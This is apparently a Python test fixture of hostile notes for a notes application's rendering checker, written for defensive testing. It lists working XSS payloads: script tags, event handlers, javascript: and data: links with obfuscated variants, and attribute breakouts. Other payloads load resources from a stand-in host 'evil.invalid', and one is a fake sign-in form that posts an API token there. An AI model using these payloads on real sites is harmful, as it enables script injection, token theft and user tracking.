"""Hostile notes: what an attacker who can write a note (or get one synced or imported into an
account) would try, in the title, the body (raw HTML and Markdown) and the tags. Every payload
carries a marker, QUILLX<nn>, so anything of it that becomes markup, a request or a dialog is
recognisable; `as_markup` is what a page would hold if the protection failed, which the checker's
self-test serves to prove each payload would be caught."""
from dataclasses import dataclass, field

EVIL = "https://evil.invalid"


@dataclass(frozen=True)
class HostilePayload:
    name: str
    title: str
    body: str
    as_markup: str
    tags: list = field(default_factory=list)


PAYLOADS = [
    HostilePayload("inline script",
                   "<script>alert('QUILLX01')</script>",
                   "Before <script>alert('QUILLX01')</script> after.\n\n<script src=\"%s/QUILLX01.js\"></script>" % EVIL,
                   "<script>alert('QUILLX01')</script>"),
    HostilePayload("img onerror",
                   "<img src=x onerror=alert('QUILLX02')>",
                   "<img src=QUILLX02 onerror=\"alert('QUILLX02')\">",
                   "<img src=QUILLX02 onerror=\"alert('QUILLX02')\">"),
    HostilePayload("svg onload",
                   "svg QUILLX03",
                   "<svg onload=\"alert('QUILLX03')\"><circle r=\"5\"/></svg>\n\n<svg><script>alert('QUILLX03')</script></svg>",
                   "<svg onload=\"alert('QUILLX03')\"><circle r=\"5\"/></svg>"),
    HostilePayload("body onload and details ontoggle",
                   "handlers QUILLX04",
                   "<body onload=\"alert('QUILLX04')\">\n\n<details open ontoggle=\"alert('QUILLX04')\"><summary>x</summary></details>",
                   "<details open ontoggle=\"alert('QUILLX04')\"><summary>x</summary></details>"),
    HostilePayload("iframe",
                   "iframe QUILLX05",
                   "<iframe src=\"%s/QUILLX05\"></iframe>\n\n<iframe srcdoc=\"<script>alert('QUILLX05')</script>\"></iframe>" % EVIL,
                   "<iframe src=\"%s/QUILLX05\"></iframe>" % EVIL),
    HostilePayload("javascript: link in HTML",
                   "link QUILLX06",
                   "<a href=\"javascript:alert('QUILLX06')\">click QUILLX06</a>",
                   "<a href=\"javascript:alert('QUILLX06')\">click QUILLX06</a>"),
    HostilePayload("javascript: links in Markdown",
                   "markdown links QUILLX07",
                   "[click QUILLX07](javascript:alert('QUILLX07'))\n\n[mixed case QUILLX07](JaVaScRiPt:alert('QUILLX07'))\n\n"
                   "[entity QUILLX07](&#106;avascript:alert('QUILLX07'))\n\n[escaped QUILLX07](java\\script:alert('QUILLX07'))\n\n"
                   "<javascript:alert('QUILLX07')>\n\n[data QUILLX07](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n"
                   "[ref QUILLX07][evil]\n\n[evil]: javascript:alert('QUILLX07')",
                   "<a href=\"javascript:alert('QUILLX07')\">click QUILLX07</a>"),
    HostilePayload("images from elsewhere",
                   "images QUILLX08",
                   "![pixel QUILLX08](%s/QUILLX08.png)\n\n![protocol-relative QUILLX08](//evil.invalid/QUILLX08.png)\n\n"
                   "<img src=\"%s/QUILLX08b.png\" srcset=\"%s/QUILLX08c.png 2x\">" % (EVIL, EVIL, EVIL),
                   "<img src=\"%s/QUILLX08.png\">" % EVIL),
    HostilePayload("CSS tricks",
                   "css QUILLX09",
                   "<style>body { background: url(%s/QUILLX09.png) } @import url(%s/QUILLX09.css);</style>\n\n"
                   "<div style=\"background-image: url(%s/QUILLX09b.png)\">styled QUILLX09</div>\n\n"
                   "<link rel=\"stylesheet\" href=\"%s/QUILLX09.css\">" % (EVIL, EVIL, EVIL, EVIL),
                   "<style>main { background: url(%s/QUILLX09.png) }</style>" % EVIL),
    HostilePayload("meta refresh",
                   "refresh QUILLX10",
                   "<meta http-equiv=\"refresh\" content=\"0;url=%s/QUILLX10\">" % EVIL,
                   "<meta http-equiv=\"refresh\" content=\"0;url=%s/QUILLX10\">" % EVIL),
    HostilePayload("base href",
                   "base QUILLX11",
                   "<base href=\"%s/QUILLX11/\">" % EVIL,
                   "<base href=\"%s/QUILLX11/\">" % EVIL),
    HostilePayload("form posting elsewhere",
                   "form QUILLX12",
                   "<form action=\"//evil.invalid/QUILLX12\" method=\"post\"><label>API token <input name=\"token\"></label>"
                   "<button formaction=\"javascript:alert('QUILLX12')\">Sign in QUILLX12</button></form>",
                   "<form action=\"//evil.invalid/QUILLX12\" method=\"post\"><input name=\"token\"><button>Sign in</button></form>"),
    HostilePayload("object and embed",
                   "plugins QUILLX13",
                   "<object data=\"%s/QUILLX13.swf\"></object><embed src=\"%s/QUILLX13\">" % (EVIL, EVIL),
                   "<object data=\"%s/QUILLX13.swf\"></object>" % EVIL),
    HostilePayload("breaking out of attributes and the textarea",
                   "\"><img src=x onerror=alert('QUILLX14')>",
                   "</textarea><script>alert('QUILLX14')</script><textarea>\n\n'\"><svg onload=alert('QUILLX14')>",
                   "\"><img src=QUILLX14 onerror=alert('QUILLX14')>"),
    HostilePayload("tags",
                   "tags QUILLX15",
                   "The tags of this note are hostile.",
                   "<a href=\"/?tag=x\"><svg/onload=alert('QUILLX15')></a>",
                   tags=["\"><svg/onload=alert('QUILLX15')>", "<script>alert('quillx15')</script>"]),
]

# Reflected: what the reader's own requests carry back into a page.
REFLECTED_QUERIES = [
    "/?q=%3Cscript%3Ealert('QUILLX20')%3C%2Fscript%3E",
    "/?q=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert('QUILLX21')%3E",
    "/?tag=%3Csvg%2Fonload%3Dalert('QUILLX22')%3E",
    "/?after=%22%3E%3Cscript%3Ealert('QUILLX23')%3C%2Fscript%3E",
]
